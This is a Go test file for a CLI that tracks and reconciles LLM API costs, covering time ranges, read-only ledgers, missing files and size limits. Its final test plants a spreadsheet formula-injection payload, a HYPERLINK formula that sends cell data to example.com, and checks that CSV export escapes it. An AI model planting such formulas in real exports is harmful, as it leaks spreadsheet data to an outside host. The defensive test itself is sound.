package cli

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestATimeIsAMonthADayOrAnInstant(t *testing.T) {
	berlin, err := time.LoadLocation("Europe/Berlin")
	require.NoError(t, err)
	for text, want := range map[string]string{
		"2026-10": "2026-09-30T22:00:00Z", "2026-12": "2026-11-30T23:00:00Z", "2026-10-01": "2026-09-30T22:00:00Z",
		"2026-10-01T12:00:00Z": "2026-10-01T12:00:00Z", "2026-10-01T12:00:00.5-07:00": "2026-10-01T19:00:00.5Z",
	} {
		got, err := parseTime(text, berlin)
		require.NoError(t, err, text)
		assert.Equal(t, want, got.UTC().Format(time.RFC3339Nano), text)
	}
	for _, text := range []string{"", "2026", "2026-13", "2026-02-30", "soon", "1699-12", "2250-02", "2026-10-01T12:00:00", "9999-01-01"} {
		_, err := parseTime(text, time.UTC)
		assert.ErrorContains(t, err, `"`+text+`" is no time; write a month such as 2026-10, a day such as`)
	}
}

func TestEveryCommandOfALedgerTakesTheSameTimes(t *testing.T) {
	at(t, "2026-05-20T12:00:00Z")
	t.Setenv(ledgerVariable, writeLedger(t, octoberCalls...))
	book := []string{"--no-builtin", "--book", "testdata/book.yaml"}
	report := []string{"report", "--by", ""}
	reprice := append([]string{"reprice", "--dry-run"}, book...)
	reconcile := append([]string{"reconcile", "--provider", "openai", "--bill", "testdata/openai-costs.json"}, book...)
	for _, command := range [][]string{report, reprice, reconcile} {
		whole := run(t, "", append(command, "--from", "2026-05-01", "--until", "2026-06")...)
		require.NotEqual(t, Usage, whole.status, whole.err)
		same := run(t, "", append(command, "--from", "2026-05-01T02:00:00+02:00", "--until", "2026-06-01")...)
		assert.Equal(t, whole, same)
		assert.Equal(t, whole, run(t, "", append(command, "--month", "2026-05")...))
		if command[0] != "reconcile" { // which has no calls after the bill
			assert.NotEqual(t, whole.out, run(t, "", append(command, "--last", "20d", "--time-zone", "Europe/Berlin")...).out)
		}
		for say, flags := range map[string][]string{
			"--from and --until, --last and --month exclude each other":              {"--month", "2026-05", "--from", "2026-05"},
			`--until "soon" is no time; write a month`:                               {"--from", "2026-05", "--until", "soon"},
			`--month "2026-05-01" is no month; write one such as 2026-10`:            {"--month", "2026-05-01"},
			`--last "7x" is no length of time`:                                       {"--last", "7x"},
			"the time from 2026-05-02T00:00:00Z until 2026-05-01T00:00:00Z is empty": {"--from", "2026-05-02", "--until", "2026-05-01"},
			`--last "100000w" begins before 1700`:                                    {"--last", "100000w"},
			"See 'tokencost " + command[0] + " --help'.":                             {"--from", "x"},
		} {
			got := run(t, "", append(command, flags...)...)
			assert.Equal(t, Usage, got.status, flags)
			if command[0] != "reconcile" || !strings.Contains(say, "T00:00:00Z is") {
				assert.Contains(t, got.err, say, command[0])
			}
		}
	}
}

func TestDaysOfABillAreInItsTimeZone(t *testing.T) {
	t.Setenv(ledgerVariable, writeLedger(t, octoberCalls[:2]...))
	invoice := write(t, "invoice.csv", "Day,Cost\n2026-05-03,1\n2026-05-04,5.5\n2026-05-05,1\n")
	got := run(t, "", "reconcile", "--provider", "openai", "--no-builtin", "--book", "testdata/book.yaml", "--bill", invoice,
		"--columns", "day=Day,cost=Cost,currency=USD", "--zone", "-7", "--from", "2026-05-04", "--until", "2026-05-05", "--output", "json")
	assert.Contains(t, got.out, `"from": "2026-05-04T07:00:00Z"`, got.err)
	assert.Contains(t, got.out, `"until": "2026-05-05T07:00:00Z"`)
}

func TestFocusExportsOneMonth(t *testing.T) {
	dsn := focusLedger(t)
	export := func(flags ...string) outcome {
		return run(t, "", append([]string{"focus", "export", "--ledger", dsn, "--out", t.TempDir(), "--billing-account-id", "a"}, flags...)...)
	}
	assert.Equal(t, export("--from", "2026-11", "--until", "2026-12"), export("--month", "2026-11"))
	assert.Equal(t, export("--from", "2026-11", "--until", "2026-12"), export("--from", "2026-11-01", "--until", "2026-12-01T00:00:00Z"))
	for say, flags := range map[string][]string{
		"exclude each other": {"--month", "2026-11", "--from", "2026-10"},
		`--month "2026-11-02" is no month; billing periods are whole UTC months`: {"--month", "2026-11-02"},
		`--from "1970-12" is no month`:                                           {"--from", "1970-12"},
	} {
		got := export(flags...)
		assert.Equal(t, Usage, got.status)
		assert.Contains(t, got.err, say)
	}
}

func TestCommandsThatOnlyReadCannotChangeALedger(t *testing.T) {
	dsn := writeLedger(t, octoberCalls...)
	file := strings.TrimPrefix(dsn, "sqlite://")
	require.NoError(t, os.Chmod(file, 0o400))
	before, err := os.ReadFile(file)
	require.NoError(t, err)
	for _, name := range []string{dsn, dsn + "?synchronous=normal", dsn + "?mode=ro"} {
		for _, line := range []string{
			"report --month 2026-05", "ledger status", "ledger verify", "ledger expire --calls 1d --sums 1d --dry-run",
			"reprice --month 2026-05 --dry-run", "focus export --billing-account-id a --out " + t.TempDir(),
			"reconcile --provider openai --bill testdata/invoice.csv --tolerance 9 --columns day=Date,model=Model,cost=Amount,currency=USD",
		} {
			got := run(t, "", append(strings.Fields(line), "--ledger", name)...)
			assert.Equal(t, Done, got.status, "%s: %s", line, got.err)
		}
	}
	after, err := os.ReadFile(file)
	require.NoError(t, err)
	assert.Equal(t, before, after)
	for _, line := range []string{"reprice --month 2026-05", "ledger close 2026-05", "ledger expire --calls 1d --sums 1d"} {
		got := run(t, "", append(strings.Fields(line), "--ledger", dsn+"?mode=ro")...)
		assert.Equal(t, Usage, got.status, line)
		assert.Contains(t, got.err, "--ledger: dsn: mode=ro is not allowed here", line)
	}
}

func TestALedgerThatIsNotThereIsNamedAndNeverMade(t *testing.T) {
	dir := t.TempDir()
	missing := filepath.Join(dir, "no.db")
	commands := []string{
		"report --month 2026-05", "ledger status", "ledger verify", "ledger close 2026-05", "ledger expire --calls 1d",
		"reprice --month 2026-05", "reprice --month 2026-05 --dry-run", "focus export --billing-account-id a --out " + dir,
		"reconcile --provider openai --bill testdata/openai-costs.json",
	}
	for _, line := range commands {
		for _, dsn := range []string{"sqlite://" + missing, "sqlite://" + missing + "?synchronous=full"} {
			if got := run(t, "", append(strings.Fields(line), "--ledger", dsn)...); assert.NotEqual(t, Done, got.status, line) {
				assert.Contains(t, got.err, missing, line)
			}
		}
		got := run(t, "", append(strings.Fields(line), "--ledger", "sqlite://"+dir)...)
		assert.Equal(t, Failed, got.status, line)
		assert.Contains(t, got.err, "--ledger: "+dir+" is a directory", line)
		got = run(t, "", append(strings.Fields(line), "--ledger", missing)...)
		assert.Equal(t, Usage, got.status, line)
		assert.Contains(t, got.err, "--ledger: dsn: the scheme", line)
	}
	assert.NoFileExists(t, missing)
	t.Setenv(ledgerVariable, "sqlite://"+missing)
	assert.Contains(t, run(t, "", "ledger", "status").err, "$"+ledgerVariable+": stat "+missing)
}

func TestRepriceKnowsTheConditionsOfReport(t *testing.T) {
	t.Setenv(ledgerVariable, writeLedger(t, octoberCalls...))
	reprice := func(where string) outcome {
		return run(t, "", "reprice", "--from", "2026-05", "--no-builtin", "--book", "testdata/book.yaml", "--dry-run", "--where", where)
	}
	assert.Contains(t, reprice("tags.cost.center=7").out, "0 calls")
	got := reprice("billing_period=2026-05")
	assert.Equal(t, Usage, got.status)
	assert.Contains(t, got.err, "is not allowed here: calls are chosen by when they were made")
	assert.Contains(t, reprice("day=2026-05-01").err, "day is a period of time, and no condition")
}

func TestFilesOfConfigurationAreBounded(t *testing.T) {
	large := filepath.Join(t.TempDir(), "large.yaml")
	require.NoError(t, os.WriteFile(large, nil, 0o600))
	require.NoError(t, os.Truncate(large, maxSmall+1))
	dsn := focusLedger(t)
	for _, args := range [][]string{
		{"price", "--config", large},
		{"focus", "prices", "--config", large},
		{"focus", "export", "--ledger", dsn, "--out", t.TempDir(), "--billing-account-id", "a", "--commitments", large},
	} {
		got := run(t, "", args...)
		assert.Equal(t, Failed, got.status, args)
		assert.Contains(t, got.err, large+": is longer than 4 MiB", args)
	}
	require.NoError(t, os.Truncate(large, 16<<20+1))
	assert.Contains(t, run(t, "", "prices", "list", "--book", large).err, large+": is longer than 16 MiB")
	dir := t.TempDir()
	assert.Contains(t, run(t, "", "focus", "prices", "--config", dir).err, dir+" is a directory; name files")
}

func TestSpreadsheetsTakeNoFormulaFromTelemetry(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "gpt-4o": "gpt-4o", "a=b": "a=b", "=1+1": "'=1+1", "+49": "'+49", "-x": "'-x", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "＝1": "'＝1", "'=1": "'=1",
	} {
		assert.Equal(t, want, csvCell(text))
	}
	formula := `=HYPERLINK("http://example.com?"&A1)`
	dsn := writeLedger(t, ledgerCall{at: "2026-05-04T12:00:00Z", provider: "openai", model: "gpt-test", usage: "input=1000 output=10", service: formula})
	lines := func(args ...string) [][]string {
		got := run(t, "", append(args, "--ledger", dsn, "--output", "csv")...)
		require.NotEqual(t, Usage, got.status, got.err)
		all, err := csv.NewReader(strings.NewReader(got.out)).ReadAll()
		require.NoError(t, err)
		return all
	}
	all := lines("report", "--month", "2026-05", "--by", "service_name")
	assert.Equal(t, "'"+formula, all[1][1])
	all = lines("report", "--month", "2026-06", "--by", "service_name", "--compare", "2026-05..2026-06")
	assert.Equal(t, "'"+formula, all[1][1])
	assert.Contains(t, strings.Join(all[1], " "), " -0.", "numbers are as they are")

	bill := write(t, "bill.csv", "Date,Model,Cost\n2026-05-04,=1+1,1\n")
	all = lines("reconcile", "--provider", "openai", "--bill", bill, "--columns", "day=Date,model=Model,cost=Cost,currency=USD")
	var models []string
	for _, line := range all[1:] {
		models = append(models, line[1])
	}
	assert.Contains(t, models, "'=1+1")
}
